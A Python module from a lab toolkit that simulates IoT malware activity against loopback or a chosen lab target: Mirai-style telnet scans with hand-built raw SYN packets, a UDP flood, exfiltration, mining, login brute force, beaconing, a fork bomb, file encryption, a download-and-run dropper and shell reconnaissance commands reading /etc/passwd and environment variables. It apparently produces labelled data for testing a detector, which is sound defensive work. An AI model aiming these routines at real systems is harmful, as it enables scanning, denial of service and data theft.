"""What malware and attackers do to a small device, acted out: bounded in time and count, and aimed only at loopback or
at the --target that is given. Use a target that is yours: a network namespace, a lab.

Without --target everything stays on loopback: addresses are drawn from 127.77.0.0/16, and the attack brings the
servers that it talks to. With --target NETWORK (10.77.0.0/16) addresses are drawn from it and `peers` serves there;
with --target HOST there is that one host. The *_in attacks are the other way round: --target is the device.

It prints one line once the attack has begun (after preparing its files), and ends by itself.

Examples:
  python -m stonechat_tools.lab.attacks --list
  python -m stonechat_tools.lab.attacks scan_connect --seconds 20
  python -m stonechat_tools.lab.attacks exfil_slow --seconds 60 --target 10.77.0.0/16
"""

import argparse
import contextlib
import hashlib
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from stonechat_tools.lab.bounds import Deadline, leave_cleanly_on_signals, scratch_folder, started
from stonechat_tools.lab.peers import PORTS, Peers

MODULE = "stonechat_tools.lab.attacks"
LOOPBACK_NETWORK = "127.77.0.0/16"
TIMEOUT_S = 2.0
MAX_EVENTS = 2_000_000  # packets, connections, files: no attack does more, however long it may run
MAX_CHILDREN = 150
MINER_REPORT_S = 3.0
VICTIM_FILES = 200
VICTIM_BYTES = 40_000
_PAYLOAD = "#!/bin/sh\nfor i in 1 2 3; do uname; id; cat /proc/cpuinfo; done\n"
_RECON = (
    "uname -a; id; cat /etc/passwd /etc/os-release; ls -la /tmp /home /root /etc; ps; df; env",
    "cat /proc/net/tcp /proc/net/arp /proc/version /proc/mounts; ls /dev /sys/class/net; find /etc -maxdepth 2",
)


class Scene:
    """Where an attack plays: whom it talks to, where it writes, and how long."""

    def __init__(
        self, seconds: float, target: str | None, folder: Path, seed: int, stack: contextlib.ExitStack
    ) -> None:
        self.deadline = Deadline(seconds, MAX_EVENTS)
        self.rng = random.Random(seed)
        self.folder = folder
        self.network = ipaddress.ip_network(target or LOOPBACK_NETWORK, strict=False)
        self._local = target is None
        self._stack = stack
        self._served: dict[tuple[str, str], int] = {}

    def begin(self) -> None:
        print("started", flush=True)

    def live(self) -> bool:
        return self.deadline.live()

    def pause(self, seconds: float) -> None:
        self.deadline.count()
        self.deadline.sleep(seconds)

    def anyone(self) -> str:
        """A random address of the network."""
        return str(self.network[self.rng.randrange(self.network.num_addresses)])

    def host(self, n: int) -> str:
        """The n-th well-known address of the network; a network of one address is that host."""
        return str(self.network[n % self.network.num_addresses])

    def known(self) -> str:
        """The host that the device talks to anyway."""
        return "127.0.0.1" if self._local else self.host(1)

    def device(self) -> str:
        """The device that the *_in attacks are aimed at."""
        return "127.0.0.1" if self._local else str(self.network[0])

    def port(self, host: str, service: str) -> int:
        """Where `service` is to be found on `host`; on loopback it is set up at the first call, unless a device
        already offers it."""
        if not self._local:
            return PORTS[service]
        if (host, service) not in self._served:
            self._served[host, service] = self._find_or_serve(host, service)
        return self._served[host, service]

    def connect(self, host: str, service: str) -> socket.socket:
        return socket.create_connection((host, self.port(host, service)), TIMEOUT_S)

    def _find_or_serve(self, host: str, service: str) -> int:
        if service == "login":
            with contextlib.suppress(OSError), socket.create_connection((host, PORTS[service]), TIMEOUT_S):
                return PORTS[service]
        return self._stack.enter_context(Peers(host, (service,))).ports[service]


def _scan_connect(scene: Scene, burst: int = 16, every_s: float = 0.1) -> None:
    scene.begin()
    while scene.live():
        for _ in range(burst):
            with socket.socket() as sock:
                sock.setblocking(False)
                port = 23 if scene.rng.random() < 0.9 else 2323
                sock.connect_ex((scene.anyone(), port))
                time.sleep(0.001)
        scene.deadline.count(burst - 1)
        scene.pause(max(0.0, every_s - 0.001 * burst))


def _scan_1ps(scene: Scene) -> None:
    _scan_connect(scene, burst=1, every_s=1.0)


def _scan_raw(scene: Scene) -> None:
    """SYNs that the kernel's TCP knows nothing of, as Mirai sends them."""
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    except PermissionError:
        raise PermissionError("scan_raw needs root or CAP_NET_RAW") from None
    with raw, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((scene.host(1), 9))
        own = socket.inet_aton(probe.getsockname()[0])
        scene.begin()
        while scene.live():
            for _ in range(16):
                address = scene.anyone()
                with contextlib.suppress(OSError):  # a broadcast address, a full queue
                    raw.sendto(_syn(own, socket.inet_aton(address), scene.rng.randrange(1 << 32)), (address, 0))
            scene.deadline.count(15)
            scene.pause(0.1)


def _syn(source: bytes, target: bytes, sequence: int) -> bytes:
    header = struct.pack("!HHIIBBHHH", 40000, 23, sequence, 0, 0x50, 2, 1024, 0, 0)
    summed = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(header)) + header
    total = sum(struct.unpack(f"!{len(summed) // 2}H", summed))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return header[:16] + struct.pack("!H", ~total & 0xFFFF) + header[18:]


def _udp_flood(scene: Scene) -> None:
    victim = scene.host(258)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        scene.begin()
        while scene.live():
            for _ in range(50):
                with contextlib.suppress(OSError):
                    sock.sendto(bytes(512), (victim, scene.rng.randrange(1024, 60000)))
            scene.deadline.count(49)
            scene.pause(0.01)


def _exfiltrate(scene: Scene, host: str, chunk_bytes: int, every_s: float) -> None:
    with scene.connect(host, "sink") as sock:
        scene.begin()
        while scene.live():
            sock.sendall(scene.rng.randbytes(chunk_bytes))
            scene.pause(every_s)


def _exfil_burst(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1285), 20_000, 0.01)


def _exfil_slow(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1286), 4_000, 1.0)


def _exfil_400bps(scene: Scene) -> None:
    _exfiltrate(scene, scene.host(1287), 400, 1.0)


def _exfil_via_known_peer(scene: Scene) -> None:
    _exfiltrate(scene, scene.known(), 2_000, 1.0)


def _miner(scene: Scene) -> None:
    """SHA-256 without end on half of the cores, and a share reported to the pool every three seconds."""
    others = [_fork(lambda: _hash(Deadline(scene.deadline.left_s()))) for _ in range(_cores() // 2 - 1)]
    try:
        _mine(scene, 1.0)
    finally:
        for pid in others:
            _end(pid)


def _miner_5pct(scene: Scene) -> None:
    _mine(scene, 0.05)


def _mine(scene: Scene, work_share: float) -> None:
    with scene.connect(scene.host(1542), "echo") as pool:
        scene.begin()
        while scene.live():
            turn = Deadline(min(MINER_REPORT_S, scene.deadline.left_s()))
            nonce = _hash(turn, work_share)
            pool.sendall(b"share %d" % nonce)
            pool.recv(64)


def _hash(deadline: Deadline, work_share: float = 1.0) -> int:
    nonce = 0
    while deadline.live():
        start_s = time.monotonic()
        for _ in range(2000):
            hashlib.sha256(b"%d" % nonce).digest()
            nonce += 1
        worked_s = time.monotonic() - start_s
        if work_share < 1:
            deadline.sleep(worked_s * (1 - work_share) / work_share)
    return nonce


def _cores() -> int:
    return len(os.sched_getaffinity(0))


def _guess(scene: Scene, host: str, service: str) -> None:
    with contextlib.suppress(OSError), scene.connect(host, service) as sock:
        sock.sendall(b"root:%04d\n" % scene.rng.randrange(10_000))
        sock.recv(64)


def _brute_in(scene: Scene, every_s: float = 0.05) -> None:
    scene.port(scene.device(), "login")
    scene.begin()
    while scene.live():
        _guess(scene, scene.device(), "login")
        scene.pause(every_s)


def _brute_in_1per5s(scene: Scene) -> None:
    _brute_in(scene, 5.0)


def _brute_out(scene: Scene) -> None:
    hosts = [scene.host(1792 + n) for n in range(1, 9)]
    for host in hosts:
        scene.port(host, "echo")
    scene.begin()
    while scene.live():
        _guess(scene, scene.rng.choice(hosts), "echo")
        scene.pause(0.1)


def _portsweep_in(scene: Scene) -> None:
    scene.begin()
    port = 0
    while scene.live():
        port = port % 65535 + 1
        with contextlib.suppress(OSError), socket.create_connection((scene.device(), port), 0.2):
            pass
        scene.pause(0.01)


def _beacon(scene: Scene, host: str | None = None, every_s: float = 5.0) -> None:
    host = host or scene.host(257)
    scene.port(host, "echo")
    scene.begin()
    while scene.live():
        with contextlib.suppress(OSError), scene.connect(host, "echo") as sock:
            sock.sendall(scene.rng.randbytes(100))
            sock.recv(200)
        scene.pause(every_s)


def _beacon_60s_known(scene: Scene) -> None:
    _beacon(scene, scene.known(), 60.0)


def _forkbomb(scene: Scene) -> None:
    """Forty forks a second, never more than MAX_CHILDREN alive; each child ends itself by the deadline, too."""
    children: list[int] = []
    scene.begin()
    try:
        while scene.live():
            if len(children) == MAX_CHILDREN:
                _end(children.pop(0))
            children.append(_fork(lambda: time.sleep(scene.deadline.left_s())))
            scene.pause(0.025)
    finally:
        for pid in children:
            _end(pid)


def _fork(work: Callable[[], object]) -> int:
    """Do `work` in a child -> its process id. Nothing of the parent's is unwound in the child."""
    pid = os.fork()
    if pid == 0:
        try:
            signal.signal(signal.SIGTERM, signal.SIG_DFL)
            work()
        finally:
            os._exit(0)
    return pid


def _end(pid: int) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


def _ransom(scene: Scene, every_s: float = 0.01) -> None:
    """Encrypts its own files, over and over: read, write beside, fsync, unlink."""
    files = [scene.folder / f"letter{n:03d}.dat" for n in range(VICTIM_FILES)]
    for file in files:
        with file.open("wb") as out:  # the victims are there before the attack is
            out.write(scene.rng.randbytes(VICTIM_BYTES))
            out.flush()
            os.fsync(out.fileno())
    time.sleep(0.5)
    scene.begin()
    n = 0
    while scene.live():
        files[n] = _encrypt(files[n])
        n = (n + 1) % VICTIM_FILES
        scene.pause(every_s)


def _encrypt(file: Path) -> Path:
    text = file.read_bytes()
    key = hashlib.sha256(file.name.encode()).digest() * (len(text) // 32)
    cipher = int.from_bytes(text, "little") ^ int.from_bytes(key, "little")
    other = file.with_suffix(".dat" if file.suffix == ".enc" else ".enc")
    with other.open("wb") as out:
        out.write(cipher.to_bytes(len(text), "little"))
        out.flush()
        os.fsync(out.fileno())
    file.unlink()
    return other


def _ransom_1ps(scene: Scene) -> None:
    _ransom(scene, 1.0)


def _download_exec(scene: Scene) -> None:
    """A dropper: fetch, write, make executable, run."""
    host = scene.host(2056)
    scene.port(host, "http")
    dropped = scene.folder / "update"
    scene.begin()
    while scene.live():
        with contextlib.suppress(OSError), scene.connect(host, "http") as sock:
            sock.sendall(b"GET /firmware HTTP/1.0\r\n\r\n")
            while sock.recv(65536):
                pass
        dropped.write_text(_PAYLOAD)
        dropped.chmod(0o755)
        _run(["sh", "-c", '"$0" || sh "$0"', str(dropped)])  # the second where the medium is mounted noexec
        scene.pause(2.0)


def _shell_recon(scene: Scene) -> None:
    scene.begin()
    n = 0
    while scene.live():
        _run(["sh", "-c", _RECON[n % len(_RECON)]])
        n += 1
        scene.pause(1.0)


def _run(command: list[str]) -> None:
    with contextlib.suppress(subprocess.TimeoutExpired, OSError):
        subprocess.run(
            command,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=5,
            check=False,
        )


@dataclass(frozen=True)
class Attack:
    """`features`: those of linux-proc-1 and linux-1 that belong to it, for judging an explanation. `loud` ones show in
    a window; `at_device` ones come from outside; `privileged` ones need root or CAP_NET_RAW."""

    act: Callable[[Scene], None]
    what: str
    features: tuple[str, ...]
    loud: bool = True
    at_device: bool = False
    privileged: bool = False


_CONNECTING = ("conn_out", "conn_fail", "conn_reset", "rst_out", "retrans", "icmp_unreach_in")
_NEW_PEERS = ("peers", "new_peers", "new_peer_bytes", "top_peer_share")
_SENDING = ("bytes_out", "pkts_out", "mean_out_size")
_ON_LOOPBACK = ("bytes_in", "pkts_in")  # what is sent on loopback arrives there as well
_SMALL_PACKETS = ("pkts_out", "pkts_in", "bytes_out", "bytes_in", "mean_out_size", "ctxt")
_SYS_NET = ("sys_rate", "sys_sock", "sys_netio")
_WRITING = ("pages_dirtied", "disk_written", "sys_fmod", "sys_write", "sys_read", "sys_open", "sys_fmeta", "cpu_busy")
_STARTING = ("forks", "pgfault", "execs", "sys_proc", "sys_open", "sys_fmeta", "sys_mem", "sys_rate", "cpu_busy")

ATTACKS: dict[str, Attack] = {
    "scan_connect": Attack(
        _scan_connect,
        "telnet scan by connect, 160 a second, as Mirai's relatives without root do",
        _CONNECTING + _NEW_PEERS + _SYS_NET + _SMALL_PACKETS + ("dports", "syn_out", "syn_fail", "rst_in"),
    ),
    "scan_raw": Attack(
        _scan_raw,
        "telnet scan by raw SYNs, 160 a second, as Mirai does",
        ("ip_out_unattrib", "dports", "syn_out", "syn_fail", "rst_in", "rst_out", "icmp_unreach_in")
        + _SMALL_PACKETS
        + _NEW_PEERS
        + _SYS_NET,
        privileged=True,
    ),
    "udp_flood": Attack(
        _udp_flood,
        "512-byte datagrams to random ports of one host, at most 5,000 a second",
        ("udp_out", "udp_noport", "icmp_unreach_in", "dports") + _SENDING + _ON_LOOPBACK + _NEW_PEERS + _SYS_NET,
    ),
    "exfil_burst": Attack(
        _exfil_burst,
        "2 MB a second to a host never seen before",
        _SENDING + _ON_LOOPBACK + _NEW_PEERS + _SYS_NET + ("estab", "conn_out"),
    ),
    "exfil_slow": Attack(
        _exfil_slow,
        "4 KB a second to a host never seen before",
        _SENDING + _ON_LOOPBACK + _NEW_PEERS + ("estab", "conn_out"),
    ),
    "miner": Attack(
        _miner,
        "SHA-256 on half of the cores, and a message to the pool every three seconds",
        ("cpu_busy", "ctxt", "estab") + _NEW_PEERS,
    ),
    "brute_in": Attack(
        _brute_in,
        "ten logins a second tried on the device",
        ("conn_in", "conn_out", "peers") + _SMALL_PACKETS + _SYS_NET,
        at_device=True,
    ),
    "portsweep_in": Attack(
        _portsweep_in,
        "a hundred of the device's ports a second tried",
        ("rst_out", "conn_fail", "conn_out", "conn_in", "rst_in", "dports") + _SMALL_PACKETS,
        at_device=True,
    ),
    "brute_out": Attack(
        _brute_out,
        "the device tries logins on eight others, ten a second",
        ("conn_out", "conn_in", "syn_out") + _SMALL_PACKETS + _NEW_PEERS + _SYS_NET,
    ),
    "beacon": Attack(
        _beacon,
        "100 bytes to a control server never seen before, every five seconds",
        _NEW_PEERS + ("conn_out", "conn_in", "syn_out"),
        loud=False,
    ),
    "forkbomb": Attack(
        _forkbomb,
        "forty forks a second, at most 150 alive",
        ("forks", "cpu_busy", "pgfault", "ctxt", "mem_avail", "sys_proc", "sys_mem", "sys_rate"),
    ),
    "ransom": Attack(
        _ransom, "encrypts files as fast as it can", _WRITING + ("disk_read", "ctxt", "pgfault", "sys_rate")
    ),
    "download_exec": Attack(
        _download_exec,
        "fetches 400 KB, makes it executable and runs it, every two seconds",
        _STARTING + _NEW_PEERS + ("bytes_in", "bytes_out", "pkts_in", "conn_out", "conn_in", "pages_dirtied"),
    ),
    "scan_1ps": Attack(
        _scan_1ps,
        "telnet scan, one connect a second",
        _CONNECTING + _NEW_PEERS + ("dports", "syn_out", "syn_fail", "rst_in"),
        loud=False,
    ),
    "exfil_400Bps": Attack(
        _exfil_400bps,
        "400 bytes a second to a host never seen before",
        _SENDING + _NEW_PEERS + ("estab", "conn_out"),
        loud=False,
    ),
    "exfil_via_known_peer": Attack(
        _exfil_via_known_peer,
        "2 KB a second to a host that the device knows",
        _SENDING + ("estab", "conn_out", "syn_out", "top_peer_share", "sent_to_peer"),
        loud=False,
    ),
    "miner_5pct": Attack(
        _miner_5pct, "a miner that takes a twentieth of a core", ("cpu_busy", "estab") + _NEW_PEERS, loud=False
    ),
    "brute_in_1per5s": Attack(
        _brute_in_1per5s,
        "one login in five seconds tried on the device",
        ("conn_in", "conn_out", "peers", "pkts_in"),
        loud=False,
        at_device=True,
    ),
    "ransom_1ps": Attack(_ransom_1ps, "encrypts one file a second", _WRITING, loud=False),
    "beacon_60s_known": Attack(
        _beacon_60s_known,
        "100 bytes to a host that the device knows, once a minute",
        ("conn_out", "syn_out"),
        loud=False,
    ),
    "shell_recon": Attack(
        _shell_recon, "somebody looks around in a shell", _STARTING + ("sys_read", "sys_write", "ctxt"), loud=False
    ),
}


def run(name: str, seconds: float, target: str | None = None, *, folder: str | None = None, seed: int = 3) -> None:
    """Act out one attack for `seconds`; `folder` is where it may make one of its own for its files."""
    with contextlib.ExitStack() as stack:
        scratch = stack.enter_context(scratch_folder(folder))
        ATTACKS[name].act(Scene(seconds, target, scratch, seed, stack))


def command(
    name: str, seconds: float, target: str | None = None, *, folder: str | None = None, seed: int = 3
) -> list[str]:
    """What starts an attack as a process of its own; it prints a line once it has begun."""
    words = [sys.executable, "-m", MODULE, name, "--seconds", str(seconds), "--seed", str(seed)]
    return words + (["--target", target] if target else []) + (["--folder", folder] if folder else [])


def spawn(
    name: str,
    seconds: float,
    target: str | None = None,
    *,
    folder: str | None = None,
    seed: int = 3,
    prefix: tuple[str, ...] = (),
) -> "subprocess.Popen[str]":
    """An attack as a process of its own that has begun; `prefix` is a command to run it under. Raises OSError when it
    could not begin (no capability, nobody at the target)."""
    return started([*prefix, *command(name, seconds, target, folder=folder, seed=seed)])


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", nargs="?", choices=ATTACKS, metavar="NAME", help="which attack")
    parser.add_argument("--list", action="store_true", help="show the attacks and the features that belong to each")
    parser.add_argument("--json", action="store_true", help="the list for machines")
    parser.add_argument("--seconds", type=float, default=20.0, help="how long (default 20)")
    parser.add_argument("--target", metavar="HOST|NETWORK", help="whom (default: loopback only)")
    parser.add_argument("--folder", metavar="DIR", help="where its own temporary folder may go")
    parser.add_argument("--seed", type=int, default=3)
    args = parser.parse_args()
    if args.list or not args.name:
        _print_list(args.json)
        return 0
    leave_cleanly_on_signals()
    try:
        run(args.name, args.seconds, args.target, folder=args.folder, seed=args.seed)
    except OSError as error:
        print(f"{args.name}: {error}", file=sys.stderr)
        return 1
    return 0


def _print_list(as_json: bool) -> None:
    if as_json:
        rows = [
            {"name": name, "what": a.what, "features": a.features, "loud": a.loud, "at_device": a.at_device}
            for name, a in ATTACKS.items()
        ]
        print(json.dumps(rows, indent=2))
        return
    for name, attack in ATTACKS.items():
        print(f"{name:<22}{attack.what}\n{'':<22}  {', '.join(attack.features)}")


if __name__ == "__main__":
    raise SystemExit(main())
